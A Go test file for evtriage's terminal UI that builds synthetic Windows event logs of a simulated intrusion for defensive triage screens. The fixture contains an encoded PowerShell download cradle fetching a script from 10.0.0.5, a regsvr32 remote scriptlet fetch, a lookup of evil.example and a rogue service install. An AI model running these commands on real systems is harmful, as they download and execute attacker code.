package tui

import (
	"encoding/base64"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	tea "charm.land/bubbletea/v2"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
	"github.com/evtriage/evtriage/triage"
)

// memLog is an io.WriteSeeker in memory, for parser.Writer.
type memLog struct {
	b   []byte
	off int64
}

func (m *memLog) Write(p []byte) (int, error) {
	if end := m.off + int64(len(p)); end > int64(len(m.b)) {
		m.b = append(m.b, make([]byte, end-int64(len(m.b)))...)
	}
	copy(m.b[m.off:], p)
	m.off += int64(len(p))
	return len(p), nil
}

func (m *memLog) Seek(off int64, whence int) (int64, error) {
	switch whence {
	case io.SeekStart:
		m.off = off
	case io.SeekCurrent:
		m.off += off
	case io.SeekEnd:
		m.off = int64(len(m.b)) + off
	}
	return m.off, nil
}

// logBytes writes events as an .evtx file in memory.
func logBytes(t testing.TB, evs []*parser.Event) []byte {
	t.Helper()
	m := &memLog{}
	w := parser.NewWriter(m)
	for _, e := range evs {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return m.b
}

// psEncode encodes a script as PowerShell's -EncodedCommand wants it.
func psEncode(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// hostT is the time of the attack in the host logs.
var hostT = time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)

// hostEvents are the logs an incident responder collected from WS1 (and
// one event of WS2 in its Security log): a logon, PowerShell run with an
// encoded command, the script block it ran, regsvr32 fetching a scriptlet
// (DNS, network, an unsigned load, a child), a service installed, a
// Defender detection, a command line whose -enc does not decode, a
// logoff; by log.
func hostEvents() map[string][]*parser.Event {
	at := func(d time.Duration) time.Time { return hostT.Add(d) }
	rec := uint64(1000)
	mk := func(channel, provider string, id uint16, host string, when time.Time, kv ...string) *parser.Event {
		rec++
		e := &parser.Event{RecordID: rec, Time: when, Written: when, Provider: provider, Channel: channel, Computer: host,
			EventID: id, Version: 5, Level: 4, ProcessID: 1880, ThreadID: 2020, UserID: "S-1-5-18"}
		for i := 0; i+1 < len(kv); i += 2 {
			e.Fields = append(e.Fields, parser.Field{Name: kv[i], Value: kv[i+1]})
		}
		return e
	}
	guid := func(n int) string { return fmt.Sprintf("{365ABB72-0000-0000-0000-%012d}", n) }
	proc := func(when time.Time, g, pid int, image, cmd string, pg, ppid int, pimage string) *parser.Event {
		return mk(sysmonCh, "Microsoft-Windows-Sysmon", 1, "WS1", when, "ProcessGuid", guid(g), "ProcessId", fmt.Sprint(pid),
			"Image", image, "CommandLine", cmd, "CurrentDirectory", `C:\Users\alice\`, "User", `CORP\alice`,
			"ParentProcessGuid", guid(pg), "ParentProcessId", fmt.Sprint(ppid), "ParentImage", pimage)
	}
	const (
		explorer = `C:\Windows\explorer.exe`
		cmdExe   = `C:\Windows\System32\cmd.exe`
		ps       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		reg      = `C:\Windows\System32\regsvr32.exe`
		svchost  = `C:\Windows\System32\svchost.exe`
	)
	script := "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"
	regEv := func(id uint16, when time.Time, kv ...string) *parser.Event {
		return mk(sysmonCh, "Microsoft-Windows-Sysmon", id, "WS1", when, append([]string{"ProcessGuid", guid(4), "ProcessId", "4242", "Image", reg}, kv...)...)
	}
	sec := func(id uint16, host string, when time.Time, kv ...string) *parser.Event {
		return mk("Security", "Microsoft-Windows-Security-Auditing", id, host, when, kv...)
	}
	return map[string][]*parser.Event{
		"WS1/Sysmon.evtx": {
			proc(at(-10*time.Minute), 1, 3528, explorer, `C:\Windows\Explorer.EXE`, 0, 600, `C:\Windows\System32\userinit.exe`),
			proc(at(-4*time.Minute), 7, 1500, svchost, `svchost.exe -k netsvcs -p`, 0, 700, `C:\Windows\System32\services.exe`),
			proc(at(-2*time.Minute), 2, 2992, cmdExe, `"C:\Windows\system32\cmd.exe"`, 1, 3528, explorer),
			proc(at(-60*time.Second), 3, 3100, ps, `powershell.exe -nop -w hidden -enc `+psEncode(script), 2, 2992, cmdExe),
			proc(at(0), 4, 4242, reg, `regsvr32.exe /s /u /i:http://10.0.0.5/a.sct scrobj.dll`, 3, 3100, ps),
			regEv(22, at(time.Second), "QueryName", "evil.example", "QueryResults", "::ffff:10.0.0.5;"),
			regEv(3, at(time.Second), "Protocol", "tcp", "SourceIp", "10.0.2.15", "SourcePort", "49163", "DestinationIp", "10.0.0.5", "DestinationPort", "80"),
			regEv(7, at(2*time.Second), "ImageLoaded", `C:\Users\Public\x.dll`, "Signed", "false", "Signature", ""),
			proc(at(3*time.Second), 5, 4300, cmdExe, `cmd.exe /c whoami`, 4, 4242, reg),
			proc(at(4*time.Minute), 6, 5100, ps, `powershell -enc SQBFAFgA$$$`, 2, 2992, cmdExe),
		},
		"WS1/Security.evtx": {
			sec(4624, "WS1", at(-3*time.Minute), "TargetUserName", "alice", "TargetDomainName", "CORP", "LogonType", "10", "IpAddress", "10.0.0.9", "WorkstationName", "JUMP01"),
			sec(4672, "WS1", at(-3*time.Minute+time.Second), "SubjectUserName", "alice"),
			sec(4624, "WS2", at(-time.Minute), "TargetUserName", "bob", "TargetDomainName", "CORP", "LogonType", "3", "IpAddress", "10.0.0.7"),
			sec(4634, "WS1", at(5*time.Minute+30*time.Second), "TargetUserName", "alice", "LogonType", "10"),
		},
		"WS1/System.evtx": {
			mk("System", "Service Control Manager", 7045, "WS1", at(time.Minute), "ServiceName", "updsvc", "ImagePath", `C:\Users\Public\svc.exe`, "AccountName", "LocalSystem"),
			mk("System", "Service Control Manager", 7036, "WS1", at(time.Minute+time.Second), "param1", "updsvc", "param2", "running"),
		},
		"WS1/PowerShell.evtx": {
			mk("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "WS1", at(-59*time.Second),
				"MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", script, "ScriptBlockId", "{0f4c1e2a-0000-0000-0000-000000000001}", "Path", ""),
		},
		"WS1/Defender.evtx": {
			mk("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, "WS1", at(2*time.Minute),
				"Threat Name", "Trojan:Win32/Powessere.G", "Path", `file:_C:\Users\Public\x.dll`, "Action Name", "Not Applicable"),
		},
	}
}

// hostInputs are the host logs as inputs in memory, in a fixed order.
func hostInputs(t testing.TB) []Input {
	evs := hostEvents()
	var out []Input
	for _, name := range []string{"WS1/Sysmon.evtx", "WS1/Security.evtx", "WS1/System.evtx", "WS1/PowerShell.evtx", "WS1/Defender.evtx"} {
		out = append(out, Input{Name: name, Data: logBytes(t, evs[name])})
	}
	return out
}

// hunting returns a screen of size w×h that hunted inputs with the
// built-in rules, loaded to the end.
func hunting(t testing.TB, inputs []Input, w, h int, loc *time.Location) Model {
	t.Helper()
	m := New(Config{Title: "WS1 logs", Inputs: inputs, Hunt: triage.Options{Rules: rules.Load(rules.LoadOptions{})},
		ExportDir: t.TempDir(), Now: func() time.Time { return hostT }, After: func(time.Duration) <-chan time.Time { return nil },
		Location: loc})
	m, _ = drive(t, m, tea.WindowSizeMsg{Width: w, Height: h})
	m, _ = drive(t, m, run(m.Init())...)
	if m.res == nil || m.load.running {
		t.Fatalf("not loaded: %s", m.load.text())
	}
	return m
}

func berlin(t testing.TB) *time.Location {
	loc, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Skip("no time zone database:", err)
	}
	return loc
}

// TestTimelineScreens drives the host timeline, the raw event, the
// decoded PowerShell, the search as a filter and the time zone on the
// host logs, and compares the screens with golden files.
func TestTimelineScreens(t *testing.T) {
	tests := []struct {
		name string
		w, h int
		keys []string
		tz   bool
	}{
		{"timeline_120x40", 120, 40, []string{"T"}, false},
		{"timeline_80x24", 80, 24, []string{"T"}, false},
		{"timeline_widen_120x40", 120, 40, []string{"T", ">"}, false},
		{"timeline_narrow_80x24", 80, 24, []string{"T", "<", "<"}, false},
		{"timeline_event_120x40", 120, 40, []string{"T", "k", "k", "k"}, false},
		{"timeline_from_process_80x24", 80, 24, []string{"2", "j", "j", "T"}, false},
		{"raw_120x40", 120, 40, []string{"x"}, false},
		{"raw_80x24", 80, 24, []string{"x", "J"}, false},
		{"raw_timeline_120x40", 120, 40, []string{"T", "k", "x"}, false},
		{"decoded_120x40", 120, 40, []string{"2", "j", "j", "j"}, false},
		{"decoded_80x24", 80, 24, []string{"2", "j", "j", "j", "J"}, false},
		{"decode_fails_120x40", 120, 40, []string{"T", ">", "G", "k"}, false},
		{"search_only_findings_120x40", 120, 40, []string{"&", "/", "cmd", "enter"}, false},
		{"search_only_findings_80x24", 80, 24, []string{"&", "/", "cmd", "enter"}, false},
		{"search_only_tree_120x40", 120, 40, []string{"&", "2", "/", "whoami", "enter"}, false},
		{"search_only_timeline_120x40", 120, 40, []string{"T", "&", "/", "alice", "enter"}, false},
		{"search_only_timeline_80x24", 80, 24, []string{"T", "/", "10.0.0.5", "enter", "&"}, false},
		{"search_jump_timeline_120x40", 120, 40, []string{"T", "/", "updsvc", "enter", "n"}, false},
		{"tz_findings_120x40", 120, 40, nil, true},
		{"tz_findings_80x24", 80, 24, nil, true},
		{"tz_timeline_120x40", 120, 40, []string{"T"}, true},
		{"tz_timeline_80x24", 80, 24, []string{"T"}, true},
	}
	inputs := hostInputs(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var loc *time.Location
			if tt.tz {
				loc = berlin(t)
			}
			m := hunting(t, inputs, tt.w, tt.h, loc)
			m, quit := drive(t, m, press(tt.keys...)...)
			if quit {
				t.Fatal("the screen quit")
			}
			got := screen(m)
			lines := strings.Split(got, "\n")
			if len(lines) != tt.h {
				t.Errorf("view has %d lines, want %d", len(lines), tt.h)
			}
			for i, l := range lines {
				if w := len([]rune(l)); w > tt.w {
					t.Errorf("line %d is %d wide", i, w)
				}
			}
			golden.Assert(t, "screen_"+tt.name+".txt", []byte(got))
		})
	}
}
